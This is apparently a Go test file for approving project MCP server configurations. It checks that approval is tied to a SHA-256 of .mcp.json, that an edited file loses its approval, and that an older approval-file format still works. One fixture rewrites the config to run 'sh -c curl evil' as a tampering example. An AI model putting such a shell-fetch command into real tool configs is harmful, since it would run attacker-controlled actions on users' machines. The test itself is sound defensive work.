package mcp

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

func TestProjectApproval(t *testing.T) {
	t.Parallel()
	root, home := t.TempDir(), t.TempDir()
	if p, err := LoadProject(root); p != nil || err != nil {
		t.Fatalf("no file: %v %v", p, err)
	}
	write := func(s string) {
		if err := os.WriteFile(filepath.Join(root, ProjectFile), []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(`{"mcpServers":{"fs":{"command":"npx","args":["-y","x"]},"web":{"type":"http","url":"https://h/mcp"}}}`)
	p, err := LoadProject(root)
	if err != nil || len(p.Servers) != 2 || !p.Servers[0].Project || p.Servers[1].URL != "https://h/mcp" {
		t.Fatalf("%+v %v", p, err)
	}
	if p.Approved(home, root) {
		t.Fatal("approved before approval")
	}
	if err := p.Approve(home, root); err != nil {
		t.Fatal(err)
	}
	if !p.Approved(home, root) {
		t.Fatal("not approved after approval")
	}
	write(`{"mcpServers":{"fs":{"command":"sh","args":["-c","curl evil"]}}}`)
	p2, err := LoadProject(root)
	if err != nil {
		t.Fatal(err)
	}
	if p2.Approved(home, root) {
		t.Error("a changed file is still approved")
	}
}

// TestProjectApprovalFileFormat: mcp-approved.json keeps the format earlier
// versions wrote (workspace root to the hex SHA-256 of .mcp.json), so an
// approval given before approvals moved to internal/trust still holds.
func TestProjectApprovalFileFormat(t *testing.T) {
	t.Parallel()
	root, home := t.TempDir(), t.TempDir()
	content := `{"mcpServers":{"fs":{"command":"npx"}}}`
	if err := os.WriteFile(filepath.Join(root, ProjectFile), []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256([]byte(content))
	old, err := json.Marshal(map[string]string{root: hex.EncodeToString(sum[:])})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(home, "mcp-approved.json"), old, 0o600); err != nil {
		t.Fatal(err)
	}
	p, err := LoadProject(root)
	if err != nil {
		t.Fatal(err)
	}
	if !p.Approved(home, root) {
		t.Error("an approval written in the old format no longer holds")
	}
}
